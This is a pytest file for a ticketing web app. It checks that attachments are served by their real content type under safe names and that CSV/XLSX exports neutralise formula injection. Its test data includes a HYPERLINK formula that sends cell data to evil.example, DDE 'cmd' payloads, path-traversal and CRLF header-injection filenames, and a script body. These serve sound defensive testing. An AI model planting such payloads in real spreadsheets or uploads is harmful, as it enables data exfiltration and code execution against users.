"""Items 1-2: attachments are served as the type their bytes are, under a safe name with that type's
extension; no text cell of any CSV or XLSX the product writes is ever a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from feedback.domain.files import download_name
from feedback.domain.spreadsheet import safe_text
from feedback.extensions import db
from feedback.models import Ticket
from feedback.services.intake import Upload
from tests.publication.publication_fixtures import answered_ticket, coordinator, publish, search_schema  # noqa: F401  (fixtures)

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


# ------------------------------------------------------------------ downloads


@pytest.mark.parametrize(
    ("sent_name", "data", "expected_type", "expected_name"),
    [
        ("ho-so.hta", PDF, "application/pdf", "ho-so.pdf"),
        ("ho-so.bat", PDF, "application/pdf", "ho-so.pdf"),
        ("..\\..\\windows\\anh chup.exe", PNG, "image/png", "anh chup.png"),
        ("Biên bản\r\nSet-Cookie: x=1.pdf.js", PDF, "application/pdf", "Biên bản Set-Cookie_ x=1.pdf.pdf"),
    ],
)
def test_attachments_are_served_as_their_content(
    app, make_user, make_ticket, signed_in, sent_name, data, expected_type, expected_name
):
    ticket = make_ticket(uploads=[Upload(filename=sent_name, file_type="pdf" if data == PDF else "png", data=data)])
    code, attachment_id = ticket.code, ticket.attachments[0].id
    client = signed_in(make_user("coordinator", "VP"))
    response = client.get(f"/staff/tickets/{code}/attachments/{attachment_id}")
    assert response.status_code == 200 and response.data == data
    assert response.mimetype == expected_type
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "\r" not in disposition and "\n" not in disposition
    from urllib.parse import unquote

    offered = (
        unquote(disposition.split("filename*=UTF-8''")[1])
        if "filename*=" in disposition
        else disposition.split('filename="')[1].rstrip('"')
    )
    assert offered == expected_name
    assert "/" not in offered and "\\" not in offered
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]


def test_a_stored_file_whose_bytes_changed_is_served_as_what_it_is_now(app, make_user, make_ticket, signed_in):
    """The type is sniffed from the file on disk at download time, not trusted from the row."""
    from pathlib import Path

    ticket = make_ticket(uploads=[Upload(filename="bao-cao.pdf", file_type="pdf", data=PDF)])
    item = ticket.attachments[0]
    (Path(app.config["UPLOAD_FOLDER"]) / item.stored_name).write_bytes(b"<html><script>alert(1)</script>")
    client = signed_in(make_user("coordinator", "VP"))
    response = client.get(f"/staff/tickets/{ticket.code}/attachments/{item.id}")
    assert response.mimetype == "application/octet-stream"
    assert "bao-cao.bin" in response.headers["Content-Disposition"]


def test_download_names_are_safe():
    assert download_name("ho-so.hta", "pdf") == "ho-so.pdf"
    assert download_name("C:\\Users\\An\\Đơn đề nghị.docx", "docx") == "Đơn đề nghị.docx"
    assert download_name("../../etc/passwd", "png") == "passwd.png"
    assert download_name("\u202eexe.pdf", "jpeg") == "exe.jpg"  # no bidi override survives
    assert download_name("CON", "pdf") == "tep-dinh-kem-CON.pdf"
    assert download_name("", "xlsx") == "tep-dinh-kem.xlsx"
    for name in ("a\x00b.pdf", "x\r\ny.pdf", 'q"u;o%te.pdf'):
        assert not any(c in download_name(name, "pdf") for c in '\x00\r\n";%/\\')


# ------------------------------------------------------------------ spreadsheets

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A2,"Bấm để xem chi tiết hồ sơ")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_safe_text_rules():
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("+84 912 000 111") == "'+84 912 000 111"
    assert safe_text("-2") == "'-2" and safe_text("@SUM(A1)") == "'@SUM(A1)"
    assert safe_text("\t=cmd") == "'\t=cmd" and safe_text("  =x") == "'  =x"
    assert safe_text("Bình thường = không sao") == "Bình thường = không sao"
    assert safe_text(-2) == -2 and safe_text(3.5) == 3.5 and safe_text(date(2026, 1, 2)) == date(2026, 1, 2)


@pytest.fixture
def formula_tickets(app, make_ticket, answered_ticket, coordinator, publish):
    """Tickets whose submitter-typed texts start like formulas, one of them published."""
    make_ticket(title=FORMULA_TITLE)
    make_ticket(title="+cmd|' /C calc'!A0 yêu cầu kiểm tra")
    published = answered_ticket(title="@SUM(1+1)*cmd|' /C calc'!A0 về đo lường")
    publish(published, coordinator, title="-2+3 kết quả kiểm định", summary="=1+1 tóm tắt", answer="@dap an cua So")
    return published


def no_formula_text(values):
    bad = [v for v in values if isinstance(v, str) and v.lstrip(" ").startswith(DANGEROUS)]
    assert not bad, bad


def test_staff_xlsx_has_no_live_formula(app, formula_tickets, make_user, signed_in):
    client = signed_in(make_user("coordinator", "VP"))
    year = db.session.execute(db.select(Ticket.received_on)).scalars().first().year
    response = client.get(f"/staff/reports/export.xlsx?year={year}")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the staff workbook"
    no_formula_text(c.value for c in cells)
    titles = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert titles == ["'" + FORMULA_TITLE] * len(titles) and titles, "the title is kept, as text"
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    # Numbers and dates stay numbers and dates.
    assert any(isinstance(c.value, int) and not isinstance(c.value, bool) for c in cells)
    assert any(c.is_date for c in cells)


@pytest.mark.parametrize("part", ["", "detail"])
def test_staff_csv_has_no_formula_text(app, formula_tickets, make_user, signed_in, part):
    client = signed_in(make_user("director", "BGD"))
    year = db.session.execute(db.select(Ticket.received_on)).scalars().first().year
    response = client.get(f"/staff/reports/export.csv?year={year}&part={part}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    no_formula_text(v for row in rows for v in row)
    if part == "detail":
        assert any(v == "'" + FORMULA_TITLE for row in rows for v in row)


def test_public_results_csv_has_no_formula_text(app, client, formula_tickets):
    response = client.get("/results/export.csv", buffered=True)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert len(rows) == 2
    no_formula_text(v for row in rows for v in row)
    assert "'-2+3 kết quả kiểm định" in rows[1] and "'=1+1 tóm tắt" in rows[1]


def test_cli_exports_have_no_formula(app, runner, formula_tickets, tmp_path):
    year = db.session.execute(db.select(Ticket.received_on)).scalars().first().year
    out = tmp_path / "bao-cao.xlsx"
    result = runner.invoke(args=["reports", "export", "--year", str(year), "--format", "xlsx", "--output", str(out)])
    assert result.exit_code == 0, result.output
    cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    no_formula_text(c.value for c in cells)
